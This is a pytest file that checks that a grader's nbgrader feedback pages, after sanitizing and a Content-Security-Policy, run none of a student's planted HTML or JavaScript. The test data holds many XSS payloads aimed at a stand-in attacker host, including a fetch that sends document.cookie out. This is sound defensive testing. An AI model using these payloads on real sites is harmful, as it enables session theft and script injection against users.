"""Feedback pages run no HTML or JavaScript a student wrote (issue 11, item 6).

A tiny nbgrader course is built in a temporary folder: one assignment whose source has
LaTeX math, an answer cell and a test cell. A hostile submission adds a Markdown cell and
a code cell that, when nbgrader's real ``autograde`` runs it (local python3 kernel, no
sandbox: it is only a test), produce every vector below; nbgrader's real
``generate_feedback`` then writes the page, with ``grader.grading.feedback_content.feedback_config()``,
and ``harden_page`` adds the Content-Security-Policy.

Three pages are opened in headless chromium:

- the **hardened** page (sanitizer + CSP): nothing runs, no request leaves for the attacker,
  no navigation; the PNG figure displays and MathJax typesets the math;
- a **CSP-only** page (vanilla nbgrader feedback, then ``harden_page``): the policy alone
  stops every script, handler, load and form, and chromium reports the violations;
- the **vanilla** page (what nbgrader writes today): the same vectors do run, which shows
  the test's vectors are live.

The submission's test cell passes when nbgrader runs it (it prints "ok"), and the judge is
taken to have overruled it (manual score 0, as the worker records it): the page must show
0 / 1 and, under that cell's heading, the judge's sentence, here a hostile and overlong one.

The meta-refresh vector is removed from the CSP-only and vanilla pages (a CSP cannot stop
a meta refresh, and navigating away would end those checks); the sanitizer stops it in
the hardened page, which keeps it.

MathJax is served offline: ``https://cdnjs.cloudflare.com/ajax/libs/mathjax/...`` is routed
(Playwright ``page.route``) to MathJax 2.7.9 from the ``jupyter-server-mathjax`` package.
The template loads ``2.7.7/latest.js``; offline, a stand-in does what latest.js does when it
cannot look up the newest version (load ``MathJax.js`` next to it); the package has no
``TeX-AMS_CHTML-full`` combined config, so ``TeX-AMS-MML_HTMLorMML-full`` (HTML-CSS output)
is served in its place. MathJax's own code runs under the page's real policy.
"""

import html
import json
import re
import shutil
from pathlib import Path

import nbformat
import pytest

from grader.course import COURSE_ID, nbgrader_api
from grader.grading.feedback_content import feedback_config, sanitize_html
from grader.grading.feedback_page import (content_security_policy, CSP_MARKER, harden_page, OverruledNotes,
                                          trusted_head)
from grader.records.report import clean_field

ASSIGNMENT = "ps1"
STUDENT = "mallory"
ATTACKER = "http://attacker.invalid"
MATHJAX_PREFIX = "https://cdnjs.cloudflare.com/ajax/libs/mathjax/"
ARTIFACT_DIR = Path(__file__).resolve().parent / "artifacts" / "e2e"

# Every vector sets window.__pwned, opens a dialog or makes a request to ATTACKER if it runs.
HOSTILE_MARKDOWN = f"""## Mallory's notes on $\\beta^2 < 1$

<img src="x" onerror="window.__pwned='md-onerror'; alert('md-onerror')">
<script>window.__pwned = 'md-script'; alert('md-script')</script>
<svg><script>window.__pwned = 'md-svg-script'</script></svg>
<iframe src="{ATTACKER}/md-iframe" onload="window.__pwned='md-iframe'"></iframe>
<iframe srcdoc="&lt;script&gt;parent.__pwned='md-srcdoc'&lt;/script&gt;"></iframe>
<object data="{ATTACKER}/md-object.swf"></object><embed src="{ATTACKER}/md-embed.swf">
<meta http-equiv="refresh" content="0;url={ATTACKER}/md-refresh">
<base href="{ATTACKER}/md-base/">
<form action="{ATTACKER}/md-form" method="post"><input name="a" value="b"><button id="md-form-button">go</button></form>
<a id="md-js-link" href="javascript:window.__pwned='md-js-url'">a javascript: link</a>
<details open ontoggle="window.__pwned='md-ontoggle'">x</details>
<div style="position:fixed;top:0;left:0;width:100%;height:100%" onmouseover="window.__pwned='md-hover'">cover</div>
<img src="relative-to-base.png">

[a markdown javascript: link](javascript:window.__pwned='md-markdown-link') ![pixel]({ATTACKER}/md-pixel.png)
"""

HOSTILE_CODE = f"""\
import io
import matplotlib
matplotlib.use("Agg")
import matplotlib.pyplot as plt
from IPython.display import HTML, SVG, Image, Javascript, Markdown, display

fig, ax = plt.subplots(figsize=(4, 2.5))
ax.plot([0, 1, 2, 3], [3, 1, 2, 0], marker="o")
ax.set_title("the student's own figure")
buffer = io.BytesIO()
fig.savefig(buffer, format="png", dpi=80)
display(Image(data=buffer.getvalue()))
display(Image(data=buffer.getvalue()), metadata={{"filenames": {{"image/png": "{ATTACKER}/filenames.png"}}}})

display(HTML("<script>window.__pwned = 'html-script'; alert('html-script')</script>"))
display(HTML('<img src="x" onerror="window.__pwned=\\'html-onerror\\'; fetch(\\'{ATTACKER}/exfil?\\' + document.cookie)">'))
display(HTML('<svg onload="window.__pwned=\\'html-svg-onload\\'"></svg>'))
display(HTML('<iframe src="{ATTACKER}/html-iframe"></iframe><object data="{ATTACKER}/html-object"></object>'))
display(HTML('<a id="html-js-link" href="javascript:window.__pwned=\\'html-js-url\\'">click</a>'))
display(HTML('<form action="{ATTACKER}/html-form"><button id="html-form-button">send</button></form>'))
display(HTML('<link rel="stylesheet" href="{ATTACKER}/style.css"><style>@import url({ATTACKER}/import.css);</style>'))
display(HTML('<img src="{ATTACKER}/pixel.png"><body onload="window.__pwned=\\'html-body-onload\\'">'))
display(HTML("<b>isolated</b>"), metadata={{"isolated": True}})
display(Javascript("window.__pwned = 'application/javascript'; alert('application/javascript')"))
display(SVG('<svg xmlns="http://www.w3.org/2000/svg" width="40" height="40" onload="window.__pwned=\\'svg-onload\\'">'
            '<script>window.__pwned = "svg-script"</script><circle cx="20" cy="20" r="15" fill="teal"/></svg>'))
display(Markdown('<img src="x" onerror="window.__pwned=\\'markdown-output\\'"> [md](javascript:window.__pwned=1)'))
print("<script>window.__pwned = 'stream'</script>")
"""

# The judge's sentence for the overruled cell; the page must show it escaped and cut to 300 characters.
HOSTILE_SENTENCE = ("""double(3) returned 7, expected 6 <script>alert('verdict')</script> "quoted" """
                    """</div><img src=x onerror="window.__pwned='verdict'"> """ + "and it goes on " * 40)
OVERRULED = {"test_double": HOSTILE_SENTENCE}

VECTOR_WORDS = ("onerror", "onload", "ontoggle", "onmouseover", "<script", "<iframe", "<object", "<embed",
                "<meta http-equiv", "<base", "<form", "javascript:", "<link", "<style>@import")


# --------------------------------------------------------------------------- the course

def _source_notebook():
    nb = nbformat.v4.new_notebook()
    nb.metadata.kernelspec = {"name": "python3", "display_name": "Python 3", "language": "python"}

    def meta(grade_id, **flags):
        return {"nbgrader": {"grade_id": grade_id, "schema_version": 3, "grade": False, "solution": False,
                             "locked": False, **flags}}

    nb.cells = [
        nbformat.v4.new_markdown_cell(
            "# Learning-rate decay\n\nThe schedule is\n\n$$\\alpha_t = \\frac{\\alpha_0}{1 + k\\,t}, \\qquad 0 < k$$\n\n"
            "and inline math such as $\\beta^2 < 1$ must still render.",
            metadata=meta("intro", locked=True)),
        nbformat.v4.new_code_cell(
            "def double(x):\n    ### BEGIN SOLUTION\n    return 2 * x\n    ### END SOLUTION",
            metadata=meta("answer", solution=True)),
        nbformat.v4.new_code_cell(
            "assert double(2) == 4\nprint('ok')\n### BEGIN HIDDEN TESTS\nassert double(3) == 6\n### END HIDDEN TESTS",
            metadata=meta("test_double", grade=True, locked=True, points=1)),
    ]
    return nb


@pytest.fixture(scope="module")
def course(tmp_path_factory):
    """A course with one hostile submission autograded; returns (course folder, feedback page path)."""
    root = tmp_path_factory.mktemp("feedback_course")
    (root / "source" / ASSIGNMENT).mkdir(parents=True)
    nbformat.write(_source_notebook(), root / "source" / ASSIGNMENT / f"{ASSIGNMENT}.ipynb")
    api = nbgrader_api(root, **feedback_config())
    released = api.generate_assignment(ASSIGNMENT, force=True, create=True)
    assert released["success"], released["log"]

    submission = nbformat.read(root / "release" / ASSIGNMENT / f"{ASSIGNMENT}.ipynb", as_version=4)
    for cell in submission.cells:
        if cell.metadata.get("nbgrader", {}).get("solution"):
            cell.source = "def double(x):\n    return 2 * x"
    submission.cells.append(nbformat.v4.new_markdown_cell(HOSTILE_MARKDOWN))
    submission.cells.append(nbformat.v4.new_code_cell(HOSTILE_CODE))
    folder = root / "submitted" / STUDENT / ASSIGNMENT
    folder.mkdir(parents=True)
    nbformat.write(submission, folder / f"{ASSIGNMENT}.ipynb")

    graded = api.autograde(ASSIGNMENT, STUDENT, force=True, create=True)
    assert graded["success"], graded["log"]
    autograded = nbformat.read(root / "autograded" / STUDENT / ASSIGNMENT / f"{ASSIGNMENT}.ipynb", as_version=4)
    kinds = {key for cell in autograded.cells for out in cell.get("outputs", []) for key in out.get("data", {})}
    assert {"text/html", "application/javascript", "image/svg+xml", "image/png", "text/markdown"} <= kinds, kinds
    _overrule(root, "test_double")

    # Vanilla nbgrader feedback first (what the grader wrote before), kept for the control pages.
    vanilla = nbgrader_api(root).generate_feedback(ASSIGNMENT, STUDENT, force=True)
    assert vanilla["success"], vanilla["log"]
    page = root / "feedback" / STUDENT / ASSIGNMENT / f"{ASSIGNMENT}.html"
    shutil.copy2(page, root / "vanilla.html")

    feedback = api.generate_feedback(ASSIGNMENT, STUDENT, force=True)
    assert feedback["success"], feedback["log"]
    shutil.copy2(page, root / "sanitized.html")  # before harden_page, for the tests that harden copies
    harden_page(page, overruled=OVERRULED)
    return root, page


def _overrule(root, grade_id):
    """What the worker records where the judge fails a cell nbgrader passed: manual score 0."""
    from nbgrader.api import Gradebook

    with Gradebook(f"sqlite:///{root / 'gradebook.db'}", COURSE_ID) as gb:
        grade = gb.find_grade(grade_id, ASSIGNMENT, ASSIGNMENT, STUDENT)
        assert grade.auto_score == grade.max_score == 1  # nbgrader's own run passed it
        grade.manual_score = 0.0
        gb.db.commit()


# --------------------------------------------------------------------------- plain checks (no browser)

def _scripts(text):
    return re.findall(r"<script\b[^>]*>.*?</script\s*>", text, flags=re.IGNORECASE | re.DOTALL)


def test_feedback_html_holds_nothing_active_from_the_student(course):
    _, page = course
    text = page.read_text()
    head, body = text.split("</head>", 1)

    # the policy is the head's first element, and it is the module's policy
    assert re.match(r"\s*<!DOCTYPE html>\s*<html[^>]*>\s*<head>\s*" + re.escape(CSP_MARKER), text)
    policy = re.search(r'<meta http-equiv="Content-Security-Policy" content="([^"]*)">', head).group(1)
    assert policy == content_security_policy()
    directives = dict(d.strip().split(" ", 1) for d in policy.split(";"))
    assert "'unsafe-inline'" not in directives["script-src"] and "'unsafe-eval'" not in directives["script-src"]
    assert directives["script-src-attr"] == "'none'" and directives["object-src"] == "'none'"
    assert directives["base-uri"] == "'none'" and directives["form-action"] == "'none'"
    assert directives["img-src"] == "data:" and directives["default-src"] == "'none'"
    assert directives["script-src"].split() == [*trusted_head().hashes, MATHJAX_PREFIX]

    # no script anywhere but the template's two in the head (MathJax's loader, its hashed config)
    assert _scripts(body) == []
    head_scripts = _scripts(head)
    assert len(head_scripts) == 2 and head_scripts[1].startswith(f'<script src="{MATHJAX_PREFIX}2.7.7/latest.js')
    assert head_scripts[0].startswith("<script>window.MathJax = {AuthorInit: function () {MathJax.Hub.Register.StartupHook(\"End Config\"")
    assert "MathJax.Hub.Config" in head_scripts[0] and "text/x-mathjax-config" not in text

    # no event-handler attribute, no active tag, no javascript: URL left as markup
    assert not re.search(r"<[a-z][^>]*\son[a-z]+\s*=", text, flags=re.IGNORECASE)
    for tag in ("iframe", "object", "embed", "form", "base", "link", "svg", "button", "input"):
        assert not re.search(rf"<{tag}\b", body, flags=re.IGNORECASE), tag
    assert not re.search(r"<meta\b", body, flags=re.IGNORECASE)
    markup = re.sub(r"&lt;.*?&gt;", "", body, flags=re.DOTALL)  # what is left as real tags, not text
    assert not re.search(r"""(href|src|action|data)\s*=\s*["']?\s*javascript:""", markup, flags=re.IGNORECASE)
    assert not re.search(rf"""(src|href|data|action)\s*=\s*["']?{re.escape(ATTACKER)}""", markup)
    # what was tried stays readable, as text
    assert "&lt;script&gt;window.__pwned = 'md-script'" in body
    # the figure and the math are still there
    assert len(re.findall(r'<img [^>]*src="data:image/png;base64,', body)) == 2
    assert re.search(r'<img [^>]*src="data:image/svg\+xml;base64,', body)
    assert "\\alpha_t = \\frac{\\alpha_0}{1 + k\\,t}, \\qquad 0 &lt; k" in body


def test_harden_page_is_atomic_idempotent_and_bounded(tmp_path):
    page = tmp_path / "f.html"
    page.write_text("<!DOCTYPE html>\n<html>\n<head>\n<meta charset='utf-8'>\n</head><body>" + "x" * 3_000_000 + "</body></html>")
    page.chmod(0o640)
    policy = harden_page(page)
    once = page.read_text()
    assert once.count(CSP_MARKER) == 1 and once.index(CSP_MARKER) < once.index("<meta charset")
    assert harden_page(page) == policy and page.read_text() == once  # already hardened: unchanged
    assert oct(page.stat().st_mode & 0o777) == "0o640" and list(tmp_path.iterdir()) == [page]

    headless = tmp_path / "g.html"
    headless.write_text("<p>no head at all</p>")
    harden_page(headless)
    assert headless.read_text().startswith(CSP_MARKER)  # the parser puts it into the implied <head>
    harden_page(headless)
    assert headless.read_text().count(CSP_MARKER) == 1


def test_student_head_lookalikes_are_never_hashed(tmp_path):
    """A script a student plants (even one that looks like the template's) never gets a hash."""
    trusted = trusted_head()
    fake_config = trusted.replacements[0][0].replace("MathJax.Hub.Config", "window.__pwned=1;MathJax.Hub.Config")
    page = tmp_path / "p.html"
    page.write_text(f"<html><head><title>t</title></head><body>{fake_config}<script>evil()</script></body></html>")
    policy = harden_page(page)
    text = page.read_text()
    assert fake_config in text  # left alone (and not run: not JavaScript, and MathJax has no eval)
    assert policy == content_security_policy()  # same hashes as always: nothing from this page


def test_sanitizer_keeps_math_code_and_tables_intact():
    from nbconvert.filters.markdown_mistune import markdown2html_mistune

    markdown = ("> quote\n\n$a < b$ and $$x &= 1$$\n\n```python\nif a < b: pass\n```\n\n"
                "| a | b |\n|---|---|\n| 1 | 2 |\n")
    rendered = markdown2html_mistune(markdown)
    assert sanitize_html(rendered) == rendered
    assert sanitize_html('<a href="javascript:alert(1)">x</a>') == "<a>x</a>"
    assert sanitize_html('<img src="https://evil.example/p.png" alt="p">') == '<img alt="p">'
    assert sanitize_html('<p class="navbar-fixed-top" style="position:fixed">x</p>') == "<p>x</p>"


# --------------------------------------------------------------------------- overruled cells (issue 12, item 5)

NOTE_WORDS = "0 points: this cell passed when your notebook ran, but the independent re-check found: "


def _text(fragment):
    return html.unescape(re.sub(r"<[^>]+>", "", fragment))


def _cell(body, grade_id):
    """The page's HTML from ``grade_id``'s heading to the next cell: its code and its outputs."""
    start = body.index(f'<a name="{grade_id}"></a>')
    end = body.find('<div class="cell ', start)
    return body[start:end]


def test_overruled_cell_says_why_under_its_final_score(course):
    _, page = course
    body = page.read_text().split("</head>", 1)[1]
    cell = _cell(body, "test_double")
    heading, note = re.match(r'<a name="test_double"></a><div class="panel-heading">(.*?)</div>\n'
                             r'<div id="overruled-test_double" class="alert alert-danger" role="note">(.*?)</div>',
                             cell, flags=re.DOTALL).groups()
    assert re.search(r"Score: 0\.0 / 1\.0 <a", heading)  # the final score: nbgrader shows the manual 0
    sentence = clean_field(HOSTILE_SENTENCE)  # what grades_by_cell.csv's judge column holds
    assert len(sentence) == 300 and sentence.endswith("…")
    assert _text(note) == NOTE_WORDS + sentence  # the same words, nothing lost to escaping, bounded
    assert re.sub(r"</?strong>", "", note).count("<") == 0  # no markup from the sentence
    assert "&lt;script&gt;alert(&#x27;verdict&#x27;)&lt;/script&gt; &quot;quoted&quot;" in note
    assert "<pre>ok\n</pre>" in cell and cell.index(NOTE_WORDS[:8]) < cell.index("<pre>ok")  # nbgrader's "ok" stays, below
    toc = body[:body.index('<div class="panel-body">')]
    assert ('<li><a href="#test_double">Test cell</a> (Score: 0.0 / 1.0) '
            '<a class="text-danger" href="#overruled-test_double">why 0 points</a></li>') in toc
    assert body.count('id="overruled-') == 1 and body.count("why 0 points") == 1
    assert "alert('verdict')" not in body.replace("&lt;script&gt;alert(&#x27;verdict&#x27;)", "")


def test_overruled_notes_are_idempotent_and_follow_the_latest_verdict(course, tmp_path):
    root, page = course
    copy = tmp_path / "p.html"
    shutil.copy2(root / "sanitized.html", copy)
    harden_page(copy)  # a page hardened before it had notes gets them later
    harden_page(copy, overruled=OVERRULED)
    assert copy.read_text() == page.read_text()
    harden_page(copy, overruled=OVERRULED)
    harden_page(copy)
    assert copy.read_text() == page.read_text()  # twice: still one note and one link
    harden_page(copy, overruled={"test_double": "double(3) returned 5, expected 6"})
    text = copy.read_text()
    assert text.count('id="overruled-') == 1 and text.count("why 0 points") == 1
    assert "re-check found: double(3) returned 5, expected 6</div>" in text and "returned 7" not in text
    assert list(tmp_path.iterdir()) == [copy]


def test_a_note_whose_cell_is_not_found_still_shows(course, tmp_path):
    root, _ = course
    copy = tmp_path / "p.html"
    shutil.copy2(root / "sanitized.html", copy)
    overruled = {**OVERRULED, "test_renamed": "no heading has this grade_id"}
    harden_page(copy, overruled=overruled)
    harden_page(copy, overruled=overruled)
    text = copy.read_text()
    assert text.count('id="overruled-test_renamed"') == 1 and text.count('id="overruled-test_double"') == 1
    assert text.rindex("<main>") < text.index('id="overruled-test_renamed"') < text.rindex("</body>")
    assert _text(text[text.index('id="overruled-test_renamed"') - 5:]).startswith(NOTE_WORDS + "no heading has")


def test_notes_land_wherever_the_chunks_of_a_long_page_end(course):
    """harden_page streams the body in chunks: a heading split between two, or at the edge of what
    is held back, gets the same note as in one piece."""
    root, _ = course
    sanitized = (root / "sanitized.html").read_bytes()
    at = sanitized.index(b'<a name="test_double">')
    window = OverruledNotes(OVERRULED).window
    body = sanitized[at - 2000: at + window + 2000]
    whole = b"".join(OverruledNotes(OVERRULED).rewrite([body]))
    assert whole.count(b'id="overruled-test_double"') == 1 and len(whole) > len(body)
    for cut in range(1, len(body), 7):
        assert b"".join(OverruledNotes(OVERRULED).rewrite([body[:cut], body[cut:]])) == whole, cut
    pieces = (body[i:i + 97] for i in range(0, len(body), 97))
    assert b"".join(OverruledNotes(OVERRULED).rewrite(pieces)) == whole


# --------------------------------------------------------------------------- chromium

_LATEST_STAND_IN = """(function () {  /* offline stand-in for MathJax's latest.js: its fallback path */
  var me = document.currentScript, s = document.createElement('script');
  s.src = me.src.replace('/latest.js', '/MathJax.js'); document.head.appendChild(s);
})();"""
_RECORD_VIOLATIONS = """window.__violations = [];
document.addEventListener('securitypolicyviolation',
  function (e) { window.__violations.push(e.effectiveDirective + ' ' + e.blockedURI); });"""
_CONTENT_TYPES = {".js": "application/javascript", ".woff": "font/woff", ".otf": "font/otf",
                  ".css": "text/css", ".png": "image/png", ".json": "application/json"}


def _mathjax_static():
    try:
        import jupyter_server_mathjax
    except ImportError:
        return None
    return Path(jupyter_server_mathjax.__file__).parent / "static"


def _open(browser, url, mathjax_root):
    """Open ``url``; returns (page, record) where record lists what reached the network."""
    record = {"network": [], "requests": [], "dialogs": [], "console": [], "errors": [], "navigations": []}
    page = browser.new_page(viewport={"width": 1100, "height": 1600})
    page.on("request", lambda request: record["requests"].append(request.url))
    page.on("console", lambda message: record["console"].append(f"{message.type}: {message.text}"))
    page.on("pageerror", lambda error: record["errors"].append(str(error)))
    page.on("framenavigated", lambda frame: frame.parent_frame or record["navigations"].append(frame.url))

    def on_dialog(dialog):
        record["dialogs"].append(dialog.message)
        dialog.dismiss()

    page.on("dialog", on_dialog)
    page.add_init_script(_RECORD_VIOLATIONS)  # runs as the test's own code, not the page's

    def route(route):
        url = route.request.url
        record["network"].append(url)
        if url.startswith(MATHJAX_PREFIX) and mathjax_root is not None:
            rest = url[len(MATHJAX_PREFIX):].split("?", 1)[0].split("/", 1)[1]  # drop the version
            if rest == "latest.js":
                return route.fulfill(body=_LATEST_STAND_IN, content_type="application/javascript")
            if rest == "config/TeX-AMS_CHTML-full.js":
                body = (mathjax_root / "config" / "TeX-AMS-MML_HTMLorMML-full.js").read_text()
                body = body.replace("[MathJax]/config/TeX-AMS-MML_HTMLorMML-full.js", "[MathJax]/config/TeX-AMS_CHTML-full.js")
                return route.fulfill(body=body, content_type="application/javascript")
            local = (mathjax_root / rest).resolve()
            if local.is_file() and local.is_relative_to(mathjax_root.resolve()):
                return route.fulfill(body=local.read_bytes(), content_type=_CONTENT_TYPES.get(local.suffix, "text/plain"))
            return route.fulfill(status=404, body="")
        if url.startswith("file://"):
            return route.continue_()
        return route.abort()

    page.route("**/*", route)
    page.goto(url, wait_until="load")
    return page, record


def _poke(page):
    """Do what a reader might: click every link and button, hover, wait for timers and refreshes."""
    try:
        for selector in ("a[href^='javascript:' i]", "button", "details", "div"):
            # Visible elements only: a reader cannot click a hidden one, and each would wait out the time-out.
            for element in [e for e in page.query_selector_all(selector) if e.is_visible()][:50]:
                try:
                    element.click(timeout=200, no_wait_after=True)
                except Exception as error:  # hidden or covered elements; a navigation ends the poking
                    if "context was destroyed" in str(error) or "navigat" in str(error):
                        raise
        page.mouse.move(300, 300)
        # and the same from the test's side, past any overlay: links followed, forms sent, hovers
        page.evaluate("""() => {
            document.querySelectorAll('a').forEach(a => { if (!(a.getAttribute('href') || '#').startsWith('#')) a.click(); });
            document.querySelectorAll('*').forEach(e => e.dispatchEvent(new MouseEvent('mouseover', {bubbles: true})));
            document.querySelectorAll('form').forEach(f => { try { f.requestSubmit(); } catch (e) {} });
        }""")
    except Exception as error:
        if "context was destroyed" not in str(error) and "navigat" not in str(error):
            raise
    page.wait_for_timeout(1500)


def _pwned(page):
    try:
        return page.evaluate("window.__pwned")
    except Exception as error:  # noqa: BLE001 - the page navigated away (a student's script or link did that)
        return f"page gone: {str(error)[:80]}"


def _attacker(record):
    return [url for url in record["network"] if url.startswith(ATTACKER) or "md-base" in url]


def _meta_refresh_removed(source, target):
    text, count = re.subn(r"<meta\b[^>]*http-equiv=.refresh[^>]*>", "", source.read_text(), flags=re.IGNORECASE)
    assert count == 1  # the student's, left as real markup by vanilla nbgrader
    target.write_text(text)
    return target


@pytest.mark.e2e
def test_hostile_feedback_runs_nothing_in_chromium(course):
    from browser import launch_chromium

    root, page_path = course
    mathjax_root = _mathjax_static()
    csp_only = _meta_refresh_removed(root / "vanilla.html", root / "csp_only.html")
    harden_page(csp_only)
    vanilla = _meta_refresh_removed(root / "vanilla.html", root / "vanilla_no_refresh.html")
    ARTIFACT_DIR.mkdir(parents=True, exist_ok=True)
    report = {}

    with launch_chromium() as browser:
        # 1. the hardened page: nothing runs, nothing leaves, math and figure work
        url = page_path.as_uri()
        page, record = _open(browser, url, mathjax_root)
        if mathjax_root is not None:
            page.wait_for_function(
                "() => window.MathJax && MathJax.isReady && MathJax.Hub.queue.pending === 0"
                " && document.querySelectorAll('.MathJax_Display, .MathJax, .mjx-chtml').length >= 3",
                timeout=30_000)
        _poke(page)
        assert page.url == url and set(record["navigations"]) == {url}, record["navigations"]
        assert page.evaluate("window.__pwned") is None
        assert record["dialogs"] == []
        assert _attacker(record) == [] and not [u for u in record["requests"] if u.startswith(ATTACKER)]
        widths = page.evaluate("[...document.querySelectorAll('img')].filter(i => i.src.startsWith("
                               "'data:image/png')).map(i => i.complete ? i.naturalWidth : 0)")
        assert len(widths) == 2 and all(w > 0 for w in widths), widths
        svg_width = page.evaluate("[...document.querySelectorAll('img')].filter(i => i.src.startsWith("
                                  "'data:image/svg')).map(i => i.naturalWidth)")
        assert svg_width == [40]  # the SVG displays, as an inert image
        if mathjax_root is not None:
            math = page.evaluate("""() => ({
                typeset: document.querySelectorAll('.MathJax_Display, .MathJax').length,
                errors: document.querySelectorAll('.MathJax_Error, merror').length,
                hub: !!(window.MathJax && MathJax.Hub && MathJax.Hub.config.tex2jax.processEscapes),
                authorInit: typeof window.init_mathjax})""")
            assert math["typeset"] >= 3 and math["errors"] == 0 and math["hub"] and math["authorInit"] == "function", math
            mathjax_loaded = [u for u in record["network"] if u.startswith(MATHJAX_PREFIX)]
            assert any("/MathJax.js" in u for u in mathjax_loaded) and any("/jax/" in u for u in mathjax_loaded)
        else:  # offline without a local MathJax: the loader and its config are intact and allowed
            assert f"{MATHJAX_PREFIX}2.7.7/latest.js" in page.content() and "init_mathjax" in page.content()
        violations = page.evaluate("window.__violations")
        page.screenshot(path=str(ARTIFACT_DIR / "feedback_hardened.png"), full_page=True)
        report["hardened"] = {"violations": violations, "network": record["network"][:20],
                              "console": record["console"][:20]}
        assert not [v for v in violations if v.startswith("script-src")], violations  # the sanitizer left no script
        # the overruled cell's note: visible, styled by the template's own Bootstrap under the policy, linked from the top
        note = page.locator("#overruled-test_double")
        assert note.is_visible() and note.inner_text().startswith(NOTE_WORDS + "double(3) returned 7")
        assert note.evaluate("e => getComputedStyle(e).backgroundColor") == "rgb(242, 222, 222)"  # .alert-danger
        page.click("a[href='#overruled-test_double']")
        assert page.evaluate("location.hash") == "#overruled-test_double"
        assert note.evaluate("e => { const r = e.getBoundingClientRect(); return r.top >= 0 && r.bottom <= innerHeight; }")
        note.screenshot(path=str(ARTIFACT_DIR / "feedback_overruled_note.png"))
        page.close()

        # 2. vanilla nbgrader feedback + harden_page only: the CSP alone stops it all, and says so
        page, record = _open(browser, csp_only.as_uri(), mathjax_root)
        _poke(page)
        violations = page.evaluate("window.__violations")
        report["csp_only"] = {"violations": violations, "console": record["console"][:40]}
        assert _pwned(page) is None and record["dialogs"] == []
        assert _attacker(record) == [] and set(record["navigations"]) == {csp_only.as_uri()}, record
        blocked = {v.split(" ")[0] for v in violations}
        assert {"script-src-elem", "script-src-attr", "img-src", "frame-src", "object-src", "base-uri", "form-action",
                "style-src-elem"} <= blocked, blocked
        assert any("Content Security Policy" in line for line in record["console"]), record["console"]
        page.screenshot(path=str(ARTIFACT_DIR / "feedback_csp_only.png"), full_page=True)
        page.close()

        # 3. control: the same submission's vanilla page does run the student's script
        page, record = _open(browser, vanilla.as_uri(), mathjax_root)
        pwned_on_load = _pwned(page)
        _poke(page)  # its student's form then takes it to the attacker's address
        report["vanilla"] = {"pwned": pwned_on_load, "dialogs": record["dialogs"], "attacker": _attacker(record),
                             "navigations": record["navigations"]}
        page.close()
    (ARTIFACT_DIR / "feedback_security.json").write_text(json.dumps(report, indent=1))
    assert report["vanilla"]["pwned"] and report["vanilla"]["dialogs"] and report["vanilla"]["attacker"], report
